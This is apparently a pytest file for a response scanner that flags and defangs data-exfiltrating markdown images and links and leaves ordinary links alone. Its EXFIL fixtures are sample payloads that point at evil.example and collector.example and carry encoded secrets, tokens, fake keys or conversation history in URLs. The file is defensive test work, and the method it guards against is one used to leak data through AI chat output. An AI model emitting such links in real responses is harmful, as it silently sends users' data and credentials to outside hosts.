"""Exfiltration: images and links that carry data to external hosts, defanged in sanitized text — and ordinary
links, badges and local URLs that are left alone."""

from __future__ import annotations

import pytest

from lighthouse_mcp.validation.responses import Scanner
from tests.scanning.conftest import flagged

EXFIL = [
    ("![status](https://evil.example/p.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)", "exfil.image", "high"),
    ("![](https://collector.example/log?q={conversation_history})", "exfil.image", "high"),
    ("![x](https://evil.example/i?data=[SECRET])", "exfil.image", "high"),
    ("![a](https://evil.example/a.gif?k=AKIAZ3MPLQ7RT5VW2XYB)", "exfil.secret-in-url", "critical"),
    ('<img src="https://evil.example/t.png?session=Ab12Cd34Ef56Gh78">', "exfil.image", "high"),
    (
        "[Click here](https://evil.example/r?token=ghp_R4nd0mT0k3nV4lu3Xy9Zq8Wv7Ut6Sr5Qp4On)",
        "exfil.secret-in-url",
        "high",
    ),
    ("[report](https://evil.example/r?payload=eyJ1c2VyIjoiYWxpY2UiLCJrZXkiOiJzM2NyM3QifQ)", "exfil.link", "medium"),
    ("![p](https://evil.example/c/dGhlIHVzZXIncyBzZWNyZXQgYXBpIGtleSBpcyBoZXJl.png)", "exfil.image", "high"),
    ("[ref]: https://evil.example/x?c=Zq8Xw7Vu6Ts5Rq4Po3Nm2Lk1Jh0GfEd", "exfil.link", "medium"),
]


@pytest.mark.parametrize(("text", "rule", "severity"), EXFIL, ids=[r for _, r, _ in EXFIL])
def test_links_that_carry_data_are_found(scanner: Scanner, text: str, rule: str, severity: str) -> None:
    result = scanner.scan(text)
    found = [(t.rule, t.severity) for t in result.threats if t.category == "exfiltration"]
    assert (rule, severity) in found, result.to_json()
    assert flagged(result, "exfiltration")
    assert "hxxp" in result.sanitized and "evil.example" not in result.sanitized
    assert "?[data removed]" in result.sanitized or "/…" in result.sanitized


def test_a_defanged_image_no_longer_renders(scanner: Scanner) -> None:
    result = scanner.scan("Done. ![chart](https://evil.example/c.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=) Bye.")
    assert result.sanitized == "Done. [image: chart](hxxps://evil[.]example/c.png?[data removed]) Bye."
    threat = next(t for t in result.threats if t.category == "exfiltration")
    assert threat.excerpt == "[image: chart](hxxps://evil[.]example/c.png?[data removed])"
    assert "evil.example" in threat.detail


CLEAN = [
    "![build](https://github.com/org/repo/actions/workflows/ci.yml/badge.svg?branch=main)",
    "![coverage](https://img.shields.io/badge/coverage-95%25-green)",
    "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)",
    "[search](https://www.google.com/search?q=python+asyncio+taskgroup)",
    "[docs](https://docs.python.org/3/library/asyncio.html#asyncio.TaskGroup)",
    "![local](http://localhost:8000/plot.png?data=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)",
    "![diagram](./docs/architecture.png)",
    "[mail](mailto:team@example.com)",
    "[PR](https://github.com/org/repo/pull/1234?diff=split)",
    "[page 2](https://example.com/items?page=2&sort=name&utm_source=newsletter)",
    "![photo](https://images.example-cdn.com/photo-1500000000000?w=800&q=80&fit=crop)",
]


@pytest.mark.parametrize("text", CLEAN, ids=[t[:40] for t in CLEAN])
def test_ordinary_links_are_left_alone(scanner: Scanner, text: str) -> None:
    result = scanner.scan(text)
    assert not [t for t in result.threats if t.category == "exfiltration"], result.to_json()
    assert result.sanitized == text
